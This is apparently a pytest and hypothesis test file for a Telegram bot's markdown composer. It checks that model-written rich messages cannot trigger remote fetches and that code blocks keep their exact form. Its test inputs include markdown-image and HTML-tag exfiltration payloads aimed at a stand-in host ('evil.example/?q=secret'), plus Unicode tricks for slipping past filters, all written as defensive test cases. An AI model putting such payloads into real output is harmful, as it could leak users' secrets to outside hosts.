"""Rich messages make Telegram fetch nothing, and show code as it was written."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.platforms.telegram.markdown.rich import RichText, compose
from bot.sandbox.telegram.judge import Tdlib
from tests.platforms.telegram.markdown.judging import fetching


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=secret)",
        "> ```\n![x](https://evil.example)\n> ```",
        "1. a\n\n   ```\n![x](https://evil.example)\n   ```",
        "<div>\n```\n\n![x](https://evil.example)\n\n```",
        "`a\\`![x](https://evil.example)`",
        "```\ncode\n```\r![x](https://evil.example)",
        "``` a`b\n![x](https://evil.example)\n```",
        "![x]\n\n[x]: https://evil.example",
        '<img src="https://evil.example">',
        "<tg-map lat=1 lon=2>",
        '<VIDEO src="https://evil.example"></VIDEO>',
        "!![x](https://evil.example)",
        "!\u202e[x](https://evil.example) <\u2028img src=x> !\u030a[x](y)",
        "  ```\ncode\n```\n![x](https://evil.example)\n```",
        "```\n```\u00a0\n```\n![x](https://evil.example)\n```",
        "```\n\t```\n```\n![x](https://evil.example)\n```",
        "```\ncode\n\x0c```\n![x](https://evil.example)\n```",
        "$$\n```\n$$\n![x](https://evil.example)\n```",
    ],
)
def test_nothing_is_fetched_from_where_a_model_wishes(text: str) -> None:
    markdown = compose(text).markdown
    assert not fetching(markdown) and "![" not in markdown


def test_telegram_leaves_the_gap_in_a_picture_and_takes_out_what_is_known() -> None:
    parser = Tdlib()
    assert parser.fix("!\u200b[x <\u200bimg>", []).text == "!\u200b[x <\u200bimg>"
    taken = {c for c in map(chr, range(1, 0x3100)) if parser.fix(f"!{c}[x]", []).text == "![x]"}
    assert taken == set("\r\u030a\u0333\u033f\u2028\u2029\u202a\u202b\u202c\u202d\u202e")


@pytest.mark.parametrize(
    "code",
    [
        "```rust\nlet v = vec![1, 2];\n````\n~~~\n  `![x](y)` <img>\n~~~\nend",
        "```html\n<img src='a.png'>\n```\n\n```rust\nvec![1]\n```\n\nin `Vec<T>`",
    ],
)
def test_code_at_the_margin_stays_as_it_is(code: str) -> None:
    assert compose(code) == RichText(code)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "1. Say:\n\n   ```rust\n   let v = vec![1];\n\n     v\n   ```\n2. Run",
            "1. Say:\n\n\n```rust\nlet v = vec![1];\n\n  v\n```\n\n2. Run",
        ),
        (
            "> So:\n>\n> ~~~html\n> <img>\n>\n> ```\n> ~~~\n> more",
            "> So:\n>\n\n````html\n<img>\n\n```\n````\n\n> more",
        ),
        ("- a\n  ```\n  <img>", "- a\n\n```\n<img>\n```\n"),
        (
            "- a\n  ```\n  b\n  ```\n\n```\nvec![1]\n```",
            "- a\n\n```\nb\n```\n\n\n```\nvec![1]\n```",
        ),
    ],
)
def test_code_inside_of_something_comes_to_the_margin_with_all_its_signs(
    text: str, shown: str
) -> None:
    assert compose(text) == RichText(shown.rstrip())


@pytest.mark.parametrize(
    "text",
    [
        "- a\n  - b\n    ```\n    <img>\n    ```\n  - c",
        "- a\n\n  ```\n  <img>\n  ```\n\n  and so on",
    ],
)
def test_code_that_something_inside_follows_stays_where_it_is(text: str) -> None:
    assert compose(text).markdown.replace("\u200b", "") == text


def test_code_inside_of_something_stays_there_when_it_has_none_of_those_signs() -> None:
    text = "- a\n\n  ```\n  vec[1]\n  ```"
    assert compose(text) == RichText(text)


PIECES = st.sampled_from(
    [
        *[
            "",
            "a",
            "- ",
            "> ",
            "  ",
            "    ",
            "1. ",
            "\t",
            "```",
            "````",
            "~~~",
            "```rust",
            "`",
            "<div>",
        ],
        *["![x](https://evil.example)", "<img src=y>", "vec![1]", "$$", "\\", "[x]: y", "<!--"],
    ]
)


@given(pieces=st.lists(st.tuples(PIECES, st.sampled_from(["", "\n", "\n\n"])), max_size=30))
@settings(max_examples=500)
def test_nothing_is_fetched_or_lost_however_code_is_nested(pieces: list[tuple[str, str]]) -> None:
    text = "".join(piece + end for piece, end in pieces)
    markdown = compose(text).markdown
    assert not fetching(markdown)
    assert re.findall(r"\w+", markdown.replace("&lt;", "<")) == re.findall(r"\w+", text)


@pytest.mark.parametrize(
    "code", ["`vec![1, 2]`", "`#![no_std]`", "`<img>`", "- ```\n  <img>\n  ```"]
)
def test_other_code_looks_as_it_is(code: str) -> None:
    assert compose(code).markdown.replace("\u200b", "") == code
